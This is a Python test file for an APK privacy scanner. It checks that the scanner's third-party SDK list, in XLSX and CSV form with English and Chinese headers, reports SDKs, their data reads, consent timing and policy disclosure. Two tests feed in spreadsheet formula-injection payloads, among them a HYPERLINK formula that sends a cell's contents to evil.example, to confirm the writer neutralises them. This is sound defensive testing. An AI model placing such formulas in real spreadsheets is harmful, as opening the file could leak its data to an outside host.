"""The third-party SDK list (XLSX and CSV): read back with openpyxl and csv, never a formula in a cell."""

from __future__ import annotations

import csv
import dataclasses
import io
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from reports.cells import TRIGGERS
from reports.sdk_list import EVIDENCE_COLUMNS, LIST_COLUMNS, SdkListWriter
from scanner.analysis.names import member
from scanner.gate.review import ScanOptions, scan
from scanner.model import Audit, Evidence
from tests.conftest import FIXTURES, HOSTILE, KB

APPS = sorted(p.name for p in FIXTURES.glob("*.apk"))


def _sheets(data: bytes) -> dict[str, list[tuple[object, ...]]]:
    book = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    return {ws.title: [tuple(row) for row in ws.iter_rows(values_only=True)] for ws in book.worksheets}


def _files(audit: Audit) -> dict[str, bytes]:
    return dict(SdkListWriter().files(audit, KB))


@pytest.mark.parametrize("name", APPS)
def test_the_xlsx_lists_each_working_sdk_and_every_observed_read(name: str) -> None:
    audit = scan(str(FIXTURES / name), ScanOptions(), KB)
    files = _files(audit)
    sheets = _sheets(files[".sdk-list.xlsx"])
    listed, evidence = sheets["SDK list"], sheets["Evidence"]
    assert listed[0] == LIST_COLUMNS and evidence[0] == EVIDENCE_COLUMNS
    live = [s for s in audit.sdks if not s.stub]
    assert len(listed) - 1 == len(live)
    assert sorted(r[0] for r in listed[1:]) == sorted(  # type: ignore[type-var]
        f"{s.name} ({s.name_cn})" if s.name_cn and s.name_cn != s.name else s.name for s in live)
    # the evidence sheet is the JSON's call sites, in their order
    assert [(r[2], r[3]) for r in evidence[1:]] == [(member(c.api), member(c.caller)) for c in audit.api_calls]
    assert [r[4] == "Yes" for r in evidence[1:]] == [c.pre_consent for c in audit.api_calls]
    stubs = [s for s in audit.sdks if s.stub]
    assert ("Left-over stubs" in sheets) == bool(stubs)
    # the CSV is the list sheet, cell for cell
    rows = list(csv.reader(io.StringIO(files[".sdk-list.csv"].decode("utf-8-sig"))))
    assert [tuple(r) for r in rows] == [tuple("" if c is None else c for c in r) for r in listed]


def test_observed_reads_are_joined_with_what_the_vendor_declares() -> None:
    audit = scan(str(FIXTURES / "sdks.apk"), ScanOptions(), KB)
    listed = _sheets(_files(audit)[".sdk-list.xlsx"])["SDK list"]
    header = listed[0]
    rows = {r[0]: dict(zip(header, r, strict=True)) for r in listed[1:]}
    bugly = rows["Tencent Bugly (腾讯Bugly)"]
    # Bugly reads the installed-app list, which its vendor's disclosure does not list
    assert "List of installed apps [read here; not in the vendor's disclosure]" in str(
        bugly["Personal information collected"])
    umeng = rows["Umeng Analytics (友盟统计)"]
    assert str(umeng["Personal information collected"]).startswith("IMEI (modem identifier);")
    assert "declared by the vendor; no read seen in this app: " in str(umeng["Personal information collected"])
    assert umeng["Privacy policy link"] == "https://www.umeng.com/page/policy"
    assert umeng["Purpose / business scenario"] == "Usage analytics and event tracking"
    assert umeng["Third party (operator)"] == "Umeng (友盟同欣（北京）科技有限公司)"


def test_an_sdk_started_at_launch_says_so_with_its_path() -> None:
    audit = scan(str(FIXTURES / "preconsent.apk"), ScanOptions(), KB)
    early = [s for s in audit.sdks if s.starts_before_consent]
    assert early
    listed = _sheets(_files(audit)[".sdk-list.xlsx"])["SDK list"]
    answers = {r[0]: str(r[6]) for r in listed[1:]}
    for s in early:
        (answer,) = [a for name, a in answers.items() if str(name).startswith(s.name)]
        assert answer.startswith("Yes: initialised at launch") and "onCreate" in answer


def _cells(files: dict[str, bytes]) -> list[str]:
    out = [str(c) for sheet in _sheets(files[".sdk-list.xlsx"]).values() for row in sheet for c in row
           if c is not None]
    out += [c for row in csv.reader(io.StringIO(files[".sdk-list.csv"].decode("utf-8-sig"))) for c in row]
    return out


def test_no_cell_of_the_sdk_list_reads_as_a_formula() -> None:
    """SDK evidence comes from the APK (component names, domains), so it may be a formula; every cell that
    starts like one is written as text, with the apostrophe spreadsheets read as "this is text"."""
    audit = scan(str(FIXTURES / "sdks.apk"), ScanOptions(), KB)
    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+1+1", "-2-2", "@SUM(1,2)", "\t=1+1"]
    sdks = tuple(dataclasses.replace(s, evidence=tuple(Evidence("manifest", "receiver", h) for h in hostile),
                                     version=hostile[3], vendor=hostile[0]) for s in audit.sdks)
    calls = tuple(dataclasses.replace(c, caller=hostile[1]) for c in audit.api_calls)
    cells = _cells(_files(dataclasses.replace(audit, sdks=sdks, api_calls=calls)))
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    # the cells that start with one are kept whole, behind the apostrophe
    assert {"'" + hostile[3], "'" + hostile[1]} <= set(cells) and any(c.startswith("'" + hostile[0]) for c in cells)
    # openpyxl would hand back a formula cell as its formula text with data_type "f": there is none
    book = openpyxl.load_workbook(io.BytesIO(_files(dataclasses.replace(audit, sdks=sdks))[".sdk-list.xlsx"]))
    assert all(cell.data_type != "f" for ws in book.worksheets for row in ws.iter_rows() for cell in row)


def test_batch_csvs_keep_a_formula_label_as_text(tmp_path: Path) -> None:
    """A real APK whose label is =HYPERLINK(...) and version +1+1: the batch dataset's CSV cells are text,
    the Parquet keeps the values as found."""
    import pandas as pd

    out = tmp_path / "batch"
    run = subprocess.run([sys.executable, "-m", "scanner", "batch", str(HOSTILE / "formula_label.apk"),
                          str(FIXTURES / "sdks.apk"), "-o", str(out)], capture_output=True, text=True, check=False)
    assert run.returncode in (0, 1), run.stderr
    label = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
    assert label in set(pd.read_parquet(out / "dataset" / "apps.parquet")["label"])
    for table in (out / "dataset").glob("*.csv"):
        with open(table, encoding="utf-8", newline="") as f:
            cells = [c for row in csv.reader(f) for c in row]
        assert not [c for c in cells if c.startswith(TRIGGERS)], table.name
    with open(out / "dataset" / "apps.csv", encoding="utf-8", newline="") as f:
        apps = list(csv.DictReader(f))
    assert {"'" + label, "'+1+1"} <= {c for row in apps for c in row.values()}


ZH_LIST = ("SDK名称", "SDK版本", "第三方主体(运营者)", "使用目的/业务场景", "收集的个人信息类型", "所需系统权限",
           "是否在同意前初始化或收集", "隐私政策链接", "来源/证据", "应用隐私政策是否披露")
ZH_EVIDENCE = ("主体", "个人信息", "API", "调用位置", "同意前", "调用路径")


def test_the_chinese_list_has_the_regulators_headers_and_chinese_cells() -> None:
    audit = scan(str(FIXTURES / "preconsent.apk"), ScanOptions(), KB)
    files = dict(SdkListWriter("zh-CN").files(audit, KB))
    sheets = _sheets(files[".sdk-list.xlsx"])
    listed, evidence = sheets["第三方SDK清单"], sheets["证据"]
    assert listed[0] == ZH_LIST and evidence[0] == ZH_EVIDENCE
    (umeng,) = [r for r in listed[1:] if str(r[0]).startswith("友盟统计")]
    assert umeng[3] == "统计分析（应用使用情况与事件统计）" and umeng[2] == "友盟同欣（北京）科技有限公司"
    assert str(umeng[6]).startswith("是：应用启动时即初始化")
    assert all(r[4] in ("是", "否") for r in evidence[1:])
    rows = list(csv.reader(io.StringIO(files[".sdk-list.csv"].decode("utf-8-sig"))))
    assert tuple(rows[0]) == ZH_LIST


def test_the_list_says_what_the_privacy_policy_discloses() -> None:
    audit = scan(str(FIXTURES / "policy" / "policy_zh.apk"), ScanOptions(), KB)
    listed = _sheets(_files(audit)[".sdk-list.xlsx"])["SDK list"]
    column = {str(r[0]): str(r[-1]) for r in listed[1:]}
    bugly = next(v for k, v in column.items() if k.startswith("Tencent Bugly"))
    assert bugly.startswith("No: the policy names neither")
    assert any(v.startswith("Yes: ") and len(v) > 10 for v in column.values())
